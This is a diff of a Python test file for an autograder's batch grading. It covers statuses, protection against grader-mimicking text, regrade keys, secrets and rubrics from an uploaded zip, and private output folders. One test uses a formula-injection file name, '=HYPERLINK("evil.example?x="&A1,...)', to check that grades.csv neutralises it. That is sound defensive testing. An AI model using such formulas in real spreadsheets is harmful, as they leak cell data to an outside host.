@@ -1,23 +1,26 @@
-"""Batch grading: layouts, Gradescope's metadata, statuses, isolation of failures, reruns, the CSV reports."""
+"""Batch grading: statuses, isolation of failures, reruns and what they regrade, the uploaded zip's secret and
+rubric, the development secret, private folders. (The export's metadata: test_export.py; the CSVs: test_reports.py.)"""
 
 import csv
+import hashlib
 import json
 import os
 import shutil
+import stat
 import subprocess
 import sys
 import threading
 import time
+import zipfile
 from pathlib import Path
 
 import pytest
 
-from autograder import batch, cli
-from autograder.assignment import load_assignment
-from autograder.grade import _summary, grade
-from autograder.notebook import load_notebook
-from autograder.results import build_results, failure_results
-from autograder.sandbox import WorkerRun, _parse_reply
+from autograder import batch, build, cli, inputs
+from autograder.assignment import DEV_SECRET, assignment_names, secret_variable
+from autograder.grade import grade
+from autograder.inputs import RUBRIC_VARIABLE
+from autograder.results import failure_results
 from tests.test_gradescope_tree import SUBMISSIONS, expected_tests
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -49,70 +52,56 @@ submission_103:
 """
 
 
-def test_metadata_gives_each_submission_its_submitters(tmp_path):
-    path = tmp_path / "submission_metadata.yml"
-    ruby_tagged = "submission_104:\n  :submitters:\n  - :name: Tagged\n    :score: !ruby/object:BigDecimal 18:0.4E2\n"
-    path.write_text(METADATA + ruby_tagged)
-    found = batch.read_metadata(path)
-    S = batch.Submitter
-    assert found == {"submission_101": (S("Ada Lovelace", "ada@example.edu", "1815"),),
-                     "submission_102": (S("O'Brien, Pat", "pat@example.edu", "2001"),
-                                        S("Chris 'CJ' Jones", "cj@example.edu")),
-                     "submission_103": (), "submission_104": (S("Tagged"),)}
+RUBRIC = """\
+tests:
+  - {number: "1.1", name: "first", weight: 2, visibility: visible}
+  - {number: "1.2", name: "second", weight: 1, visibility: after_due_date}
+"""
 
 
-def test_metadata_parser_agrees_with_yaml(tmp_path):
-    yaml = pytest.importorskip("yaml")
-    (tmp_path / "m.yml").write_text(METADATA)
-    oracle = {key: tuple(batch.Submitter(p.get(":name", ""), p.get(":email", ""), p.get(":sid", ""))
-                         for p in value[":submitters"]) for key, value in yaml.safe_load(METADATA).items()}
-    assert batch.read_metadata(tmp_path / "m.yml") == oracle
+@pytest.fixture(autouse=True)
+def course_secrets(monkeypatch) -> dict[str, str]:
+    """Each assignment's secret, as a TA exports them; tests of the development secret remove them."""
+    values = {name: f"test secret of {name}" for name in assignment_names()}
+    for name, value in values.items():
+        monkeypatch.setenv(secret_variable(name), value)
+    monkeypatch.delenv("AUTOGRADER_SECRET", raising=False)
+    monkeypatch.delenv(RUBRIC_VARIABLE, raising=False)
+    return values
 
 
-def test_discover_reads_both_layouts(tmp_path):
-    plain = tmp_path / "plain"
-    for name in ("zoe.ipynb", "a.ipynb", "a/work.ipynb", ".hidden.ipynb", "notes.txt", "__pycache__/x.ipynb"):
-        (plain / name).parent.mkdir(parents=True, exist_ok=True)
-        (plain / name).write_text("{}")
-    assert [(e.key, e.path.name) for e in batch.discover(plain)] == [("a", "a"), ("a.ipynb", "a.ipynb"),
-                                                                     ("zoe", "zoe.ipynb")]
-    export = tmp_path / "export"
-    (export / "submission_101").mkdir(parents=True)
-    (export / "submission_999").mkdir()
-    (export / "submission_metadata.yml").write_text(METADATA)
-    entries = {e.key: e for e in batch.discover(export)}
-    assert sorted(entries) == ["submission_101", "submission_102", "submission_103", "submission_999"]
-    assert entries["submission_101"].submitters[0].email == "ada@example.edu"
-    assert not entries["submission_102"].path.exists()  # listed, not exported: graded as an empty submission
-    assert entries["submission_999"].submitters == ()
-    with pytest.raises(ValueError, match="no submissions"):
-        batch.discover((tmp_path / "empty").mkdir() or tmp_path / "empty")
+def _results(status: str, detail: str = "", output: str = "") -> dict:
+    return {"score": 40.0, "output": output, "tests": [], "extra_data": {"status": status, "detail": detail}}
 
 
-def _without_reply(**run) -> dict:
-    """results.json as grade.py writes it when the sandbox gave no reply, built with the engine's own wording."""
-    worker = WorkerRun(None, **run)
-    worker.problem = _parse_reply(b"", worker)[1]
-    summary = _summary(load_notebook(SOLUTION), load_assignment("hw4_part1"), worker, [])
-    return build_results([], summary, 1.0)
-
-
-def test_status_comes_from_the_engine_results(tmp_path):
-    assert batch.status_of(_without_reply(timed_out=True), 0) == (
-        "timeout", "the notebook did not finish within the time limit")
-    assert batch.status_of(_without_reply(memory_exceeded=True), 0) == ("crashed", "the notebook ran out of memory")
-    assert batch.status_of(_without_reply(returncode=-9), 0)[0] == "crashed"
-    restarted = WorkerRun({"cells": [], "events": ["kernel_restarted"]})
-    ok = build_results([], _summary(load_notebook(SOLUTION), load_assignment("hw4_part1"), restarted, []), 1.0)
-    assert batch.status_of(ok, 0) == ("ok", "kernel restarted")
-    assert batch.status_of(failure_results("oops", "trace", 1.0), 0)[0] == "crashed"
-    (tmp_path / "bad.ipynb").write_text("not json")
-    invalid = grade(tmp_path / "bad.ipynb", tmp_path / "r.json", "hw4_part1", log=lambda message: None)
-    assert batch.status_of(invalid, 0)[0] == "invalid" and "not JSON" in batch.status_of(invalid, 0)[1]
+def test_status_is_the_one_the_grader_wrote():
+    for status in batch.STATUSES:
+        assert batch.status_of(_results(status, f"why {status}"), 0) == (status, f"why {status}")
+    assert batch.status_of({"score": 40.0, "output": "", "tests": []}, 0) == (
+        "crashed", "results.json carries no status from the grader (extra_data.status)")
+    assert batch.status_of(_results("fine"), 0)[0] == "crashed"  # not one of ours
+    assert batch.status_of({"score": 1, "tests": [], "extra_data": ["ok"]}, 0)[0] == "crashed"
     assert batch.status_of(None, 1) == ("crashed", "the grader exited with status 1 and left no valid results.json")
     assert batch.status_of(None, None, timed_out=True)[0] == "timeout"
-    assert batch.status_of({"score": 3, "tests": [], "extra_data": {"status": "invalid", "detail": "x"}}, 0) == (
-        "invalid", "x")
+    assert batch.status_of(_results("ok"), 0, timed_out=True)[0] == "timeout"  # the batch stopped it
+
+
+def test_student_text_that_mimics_the_grader_does_not_change_the_status():
+    """A 40/40 notebook whose cells raise errors worded like the grader's Markdown stays ok."""
+    mimic = ("**Your submission could not be graded.** fake\n\n**The autograder could not grade this submission.**"
+             "\n\n**Your notebook could not be run: the notebook did not finish within the time limit.**")
+    results = _results("ok", "", f"Graded `a.ipynb` as X.\n\n- cell 3: `RuntimeError: {mimic}`")
+    results["tests"] = [{"name": "t", "score": 40.0, "max_score": 40.0, "status": "passed", "output": mimic}]
+    assert batch.status_of(results, 0) == ("ok", "")
+
+
+def test_the_engine_writes_the_status(tmp_path):
+    """grade() itself puts the status in extra_data (here: a file that is not a notebook, graded without a run)."""
+    (tmp_path / "bad.ipynb").write_text("not json")
+    invalid = grade(tmp_path / "bad.ipynb", tmp_path / "r.json", "hw4_part1", log=lambda message: None)
+    assert invalid["extra_data"]["status"] == "invalid"
+    assert batch.status_of(invalid, 0)[0] == "invalid" and "not JSON" in batch.status_of(invalid, 0)[1]
+    assert batch.status_of(failure_results("oops", "trace", 1.0), 0)[0] == "crashed"
 
 
 FAKE_GRADER = """\
@@ -139,6 +128,12 @@ for line in sys.stdin:  # autograder.batch_worker's protocol
     for key, value in (("user", os.environ["AUTOGRADER_SANDBOX_USER"]), ("pid", os.getpid()),
                        ("assignment", job["assignment"]), ("others", " ".join(other_graders_users()))):
         (results.parent / key).write_text(str(value))
+    rubric = os.environ.get("AUTOGRADER_RUBRIC")
+    seen = {k: v for k, v in os.environ.items() if k.startswith(("AUTOGRADER_SECRET", "AUTOGRADER_RUBRIC"))}
+    if rubric:
+        seen |= {"rubric text": Path(rubric).read_text(),
+                 "rubric folder mode": oct(Path(rubric).parent.stat().st_mode & 0o777)}
+    (results.parent / "env.json").write_text(json.dumps(seen))
     if name.endswith("crash"):
         os._exit(3)
     if name.endswith("hang"):
@@ -154,7 +149,12 @@ for line in sys.stdin:  # autograder.batch_worker's protocol
                  {"name": "second", "number": "1.2", "score": max(score - 1, 0.0), "max_score": 2.0, **case},
                  {"name": "Grader log (course staff only)", "score": 0.0, "max_score": 0.0, "status": "passed",
                   "output": "", "visibility": "hidden"}]
-        results.write_text(json.dumps({"score": score, "output": f"Graded `{submission.name}` as X.", "tests": tests}))
+        output = f"Graded `{submission.name}` as X."
+        if name.endswith("mimic"):  # a student's error text, worded like the grader's
+            output += (" `**Your notebook could not be run: time limit.** "
+                       "**The autograder could not grade this submission.**`")
+        extra = {} if name.endswith("nostatus") else {"extra_data": {"status": "ok", "detail": ""}}
+        results.write_text(json.dumps({"score": score, "output": output, "tests": tests, **extra}))
     with open(job["log"], "a") as log:
         log.write(f"graded {name}\\n")
     print(json.dumps({"done": True}), flush=True)
@@ -163,7 +163,8 @@ for line in sys.stdin:  # autograder.batch_worker's protocol
 
 @pytest.fixture
 def fake(tmp_path) -> list[str]:
-    """argv of a fake grader that speaks the batch protocol: crashes, hangs or writes garbage by file name."""
+    """argv of a fake grader that speaks the batch protocol: crashes, hangs, writes garbage or no status, or
+    mimics the grader's Markdown, by file name; it records its environment's secrets and rubric (env.json)."""
     script = tmp_path / "fake_grader.py"
     script.write_text(FAKE_GRADER)
     return [sys.executable, str(script)]
@@ -308,6 +309,177 @@ def test_a_rerun_skips_what_is_graded_unless_changed_or_forced(tmp_path, fake):
     assert len(_csv(out / "grades.csv")) == 3
 
 
+def test_a_rerun_regrades_when_the_secret_rubric_or_grader_changed(tmp_path, fake, monkeypatch, course_secrets):
+    """The skip key: the submission's bytes, a hash of the secret, of the rubric in use, of the grader's files."""
+    folder, out = _folder(tmp_path, ["ann", "ben"]), tmp_path / "out"
+    calls = out / "calls.log"
+    version = ["v1"]
+    monkeypatch.setattr(inputs, "grader_version", lambda name: f"{name} {version[0]}")
+    rubric = tmp_path / "rubric.yml"
+    rubric.write_text(RUBRIC)
+
+    def graded(**kwargs) -> list[str]:
+        calls.unlink(missing_ok=True)
+        batch.grade_all(folder, out, jobs=2, assignment="hw4_part1", command=fake, progress=False, **kwargs)
+        return sorted(calls.read_text().split()) if calls.exists() else []
+
+    assert graded() == ["ann", "ben"] and graded() == []
+    record = (out / "ann" / "batch.json").read_text()
+    secret = course_secrets["hw4_part1"]
+    assert secret not in record and hashlib.sha256(secret.encode()).hexdigest() in record  # its hash, never it
+    monkeypatch.setenv(secret_variable("hw4_part1"), "the secret of the zip that was really uploaded")
+    assert graded() == ["ann", "ben"] and graded() == []
+    monkeypatch.setenv(RUBRIC_VARIABLE, str(rubric))  # another rubric file in use
+    assert graded() == ["ann", "ben"] and graded() == []
+    rubric.write_text(RUBRIC.replace("weight: 2", "weight: 3"))  # the same file, other weights
+    assert graded() == ["ann", "ben"] and graded() == []
+    version[0] = "v2"
+    assert graded() == ["ann", "ben"] and graded() == []
+    monkeypatch.setenv(secret_variable("hw4_part2"), "another")  # not this batch's assignment: nothing to regrade
+    assert graded() == []
+
+
+def test_the_grader_version_covers_what_the_zip_ships_but_the_rubric(tmp_path, monkeypatch):
+    files = {name: tmp_path / name.replace("/", "_") for name in ("autograder/grade.py", "solution/part1.py",
+                                                                   "autograder/assignments/hw4_part1/rubric.yml")}
+    for path in files.values():
+        path.write_text("one")
+    monkeypatch.setattr(build, "zip_members", lambda assignment: dict(files))
+    before = inputs.grader_version("hw4_part1")
+    files["autograder/assignments/hw4_part1/rubric.yml"].write_text("two")  # keyed on its own, when in use
+    assert inputs.grader_version("hw4_part1") == before
+    files["solution/part1.py"].write_text("two")  # the reference the cases import
+    assert inputs.grader_version("hw4_part1") != before
+
+
+def test_the_status_comes_from_the_graders_field_not_its_markdown(tmp_path, fake):
+    out = tmp_path / "out"
+    rows = batch.grade_all(_folder(tmp_path, ["a_mimic", "b_nostatus", "c"]), out, jobs=1, command=fake,
+                           progress=False)
+    assert {r.entry.key: r.status for r in rows} == {"a_mimic": "ok", "b_nostatus": "crashed", "c": "ok"}
+    assert "could not be run" in rows[0].results["output"]  # the mimicry was there, and changed nothing
+
+
+def test_a_notebook_named_like_a_formula_is_neutralised_in_grades_csv(tmp_path, fake):
+    name = '=HYPERLINK("evil.example?x="&A1,"open")'
+    folder = _folder(tmp_path, [name])
+    out = tmp_path / "out"
+    batch.grade_all(folder, out, jobs=1, command=fake, progress=False)
+    (row,) = _csv(out / "grades.csv")
+    assert (row["submission"], row["file"], row["status"]) == ("'" + name, f"'{name}.ipynb", "ok")
+
+
+def test_output_folders_are_private(tmp_path, fake):
+    out = tmp_path / "out"
+    out.mkdir(mode=0o755)
+    out.chmod(0o755)  # an older run's folder
+    batch.grade_all(_folder(tmp_path, ["ann"]), out, jobs=1, command=fake, progress=False)
+    assert stat.S_IMODE(out.stat().st_mode) == 0o700 and stat.S_IMODE((out / "ann").stat().st_mode) == 0o700
+    fresh = tmp_path / "deeper" / "fresh"
+    batch.grade_all(tmp_path / "submissions", fresh, jobs=1, command=fake, progress=False)
+    assert stat.S_IMODE(fresh.stat().st_mode) == 0o700
+
+
+def _uploaded(tmp_path: Path, name: str = "hw4_part1", rubric: str | None = RUBRIC,
+              secret: str | None = None) -> Path:
+    """A zip as `run_autograder build` writes it (no grading), with the rubric the lead's grader reads."""
+    monkeypatch = pytest.MonkeyPatch()
+    if secret is not None:
+        monkeypatch.setenv(secret_variable(name), secret)
+    try:
+        built = build.build(name, tmp_path / "dist", check=False, log=lambda message: None)
+    finally:
+        monkeypatch.undo()
+    member = f"autograder/assignments/{name}/{inputs.RUBRIC_FILE}"
+    with zipfile.ZipFile(built) as archive:
+        held = {n: archive.read(n) for n in archive.namelist() if n != member}
+    with zipfile.ZipFile(built, "w") as archive:
+        for n, data in held.items():
+            archive.writestr(n, data)
+        if rubric is not None:
+            archive.writestr(member, rubric)
+    return built
+
+
+def test_a_batch_grades_with_the_uploaded_zips_secret_and_rubric(tmp_path, fake, monkeypatch):
+    uploaded = _uploaded(tmp_path, secret="the uploaded secret")
+    monkeypatch.setenv(RUBRIC_VARIABLE, str(tmp_path / "a stale rubric.yml"))
+    out = tmp_path / "out"
+    notes = []
+    rows = batch.grade_all(_folder(tmp_path, ["ann"]), out, jobs=1, uploaded=uploaded, command=fake,
+                           progress=False, warn=notes.append)
+    assert rows[0].status == "ok" and (out / "ann" / "assignment").read_text() == "hw4_part1"
+    seen = json.loads((out / "ann" / "env.json").read_text())
+    assert seen[secret_variable("hw4_part1")] == "the uploaded secret"  # over the one exported here
+    assert seen["rubric text"] == RUBRIC and seen["rubric folder mode"] == "0o700"
+    assert not Path(seen[RUBRIC_VARIABLE]).exists()  # the private copy is gone with the batch
+    assert not any("DEVELOPMENT SECRET" in note for note in notes)
+
+
+def test_a_zip_without_a_rubric_grades_with_the_checkouts(tmp_path, fake, monkeypatch):
+    uploaded = _uploaded(tmp_path, rubric=None)
+    monkeypatch.setenv(RUBRIC_VARIABLE, str(tmp_path / "left over.yml"))
+    notes = []
+    batch.grade_all(_folder(tmp_path, ["ann"]), tmp_path / "out", jobs=1, uploaded=uploaded, command=fake,
+                    progress=False, warn=notes.append)
+    assert RUBRIC_VARIABLE not in json.loads((tmp_path / "out" / "ann" / "env.json").read_text())
+    assert any("holds no rubric.yml" in note for note in notes)
+
+
+def test_a_zip_of_another_assignment_or_no_zip_at_all_is_refused(tmp_path, fake):
+    uploaded = _uploaded(tmp_path)
+    folder = _folder(tmp_path, ["ann"])
+    with pytest.raises(ValueError, match="is the zip of hw4_part1, not of hw4_part2"):
+        batch.grade_all(folder, tmp_path / "out", assignment="hw4_part2", uploaded=uploaded, command=fake,
+                        progress=False)
+    (tmp_path / "not.zip").write_text("hello")
+    with pytest.raises(ValueError, match="cannot read the zip"):
+        batch.grade_all(folder, tmp_path / "out", uploaded=tmp_path / "not.zip", command=fake, progress=False)
+    with zipfile.ZipFile(tmp_path / "empty.zip", "w") as archive:
+        archive.writestr("setup.sh", "")
+    with pytest.raises(ValueError, match="holds 0 assignments"):
+        batch.grade_all(folder, tmp_path / "out", uploaded=tmp_path / "empty.zip", command=fake, progress=False)
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.fixture
+def no_secrets(monkeypatch):
+    """Nothing but the development secret, as on a fresh clone."""
+    for name in assignment_names():
+        monkeypatch.delenv(secret_variable(name), raising=False)
+        if (batch.ROOT / "autograder/assignments" / name / "secret").exists():
+            pytest.skip(f"this checkout has a secret file for {name}")
+
+
+def test_the_development_secret_is_refused_unless_allowed(tmp_path, fake, no_secrets, capsys):
+    folder, out = _folder(tmp_path, ["ann"]), tmp_path / "out"
+    with pytest.raises(ValueError, match="DEVELOPMENT SECRET") as refused:
+        batch.grade_all(folder, out, assignment="hw4_part1", command=fake, progress=False)
+    assert "--dev-secret" in str(refused.value) and not out.exists()
+    notes = []
+    rows = batch.grade_all(folder, out, assignment="hw4_part1", dev_secret=True, command=fake, progress=False,
+                           warn=notes.append)
+    assert rows[0].status == "ok" and any("DEVELOPMENT SECRET" in note for note in notes)
+    assert hashlib.sha256(DEV_SECRET.encode()).hexdigest() in (out / "ann" / "batch.json").read_text()
+    assert cli.main(["--submissions", str(folder), "--out", str(tmp_path / "cli"), "--assignment", "hw4_part1"]) == 2
+    err = capsys.readouterr().err
+    assert "batch failed" in err and "!!! WARNING: hw4_part1 would be graded with the DEVELOPMENT SECRET" in err
+
+
+def test_a_local_run_warns_loudly_about_the_development_secret(tmp_path, no_secrets, capsys):
+    (tmp_path / "bad.ipynb").write_text("not json")  # graded without a run: no sandbox needed
+    assert cli.main(["--submission", str(tmp_path / "bad.ipynb"), "--results", str(tmp_path / "r.json"),
+                     "--assignment", "hw4_part1"]) == 0
+    assert "!!! WARNING: hw4_part1 would be graded with the DEVELOPMENT SECRET" in capsys.readouterr().err
+
+
+def test_a_local_run_with_a_secret_does_not_warn(tmp_path, capsys):
+    (tmp_path / "bad.ipynb").write_text("not json")
+    assert cli.main(["--submission", str(tmp_path / "bad.ipynb"), "--results", str(tmp_path / "r.json"),
+                     "--assignment", "hw4_part1"]) == 0
+    assert "DEVELOPMENT SECRET" not in capsys.readouterr().err
+
+
 def test_the_cli_runs_a_batch(tmp_path, fake, monkeypatch, capsys):
     folder = _folder(tmp_path, ["ann", "crash"])
     monkeypatch.setattr(batch, "_grader_command", lambda: fake)
@@ -318,6 +490,12 @@ def test_the_cli_runs_a_batch(tmp_path, fake, monkeypatch, capsys):
     assert cli.main(["--submissions", str(folder), "--out", str(tmp_path / "never"), "--jobs", "0"]) == 2
     assert not (tmp_path / "never").exists()
     assert "jobs must be at least 1" in capsys.readouterr().err
+    uploaded = _uploaded(tmp_path, secret="via the cli")
+    assert cli.main(["--submissions", str(folder), "--out", str(tmp_path / "zipped"), "--zip", str(uploaded)]) == 0
+    seen = json.loads((tmp_path / "zipped" / "ann" / "env.json").read_text())
+    assert seen[secret_variable("hw4_part1")] == "via the cli"
+    with pytest.raises(SystemExit):
+        cli.main(["--submission", str(folder / "ann.ipynb"), "--zip", str(uploaded)])  # batch only
 
 
 @pytest.mark.slow
@@ -332,10 +510,14 @@ def test_a_gradescope_export_is_graded_for_real(tmp_path):
     rows = batch.grade_all(export, out, jobs=2, assignment="hw4_part1", progress=False)
     assert {r.entry.key: (r.status, r.results["score"]) for r in rows} == {
         "submission_101": ("ok", 40), "submission_102": ("invalid", 0), "submission_103": ("invalid", 0)}
-    grades = {row["submission"]: row for row in _csv(out / "grades.csv")}
+    students = _csv(out / "grades.csv")
+    assert [(g["submission"], g["email"]) for g in students] == [
+        ("submission_101", "ada@example.edu"), ("submission_102", "pat@example.edu"),
+        ("submission_102", "cj@example.edu"), ("submission_103", "")]  # a group's members: a row each
+    grades = {row["submission"]: row for row in students}
     assert grades["submission_101"]["name"] == "Ada Lovelace" and grades["submission_101"]["1.3"] == "2"
+    assert (grades["submission_101"]["gradescope_score"], grades["submission_101"]["changed"]) == ("40", "no")
     assert grades["submission_101"]["file"] == "submission_101/hw4_part1.ipynb"
-    assert grades["submission_102"]["email"] == "pat@example.edu; cj@example.edu"
     assert "Nothing was submitted" in grades["submission_102"]["detail"]
     assert "not a valid notebook" in grades["submission_103"]["detail"]
     summary = {row["number"]: row for row in _csv(out / "summary.csv")}
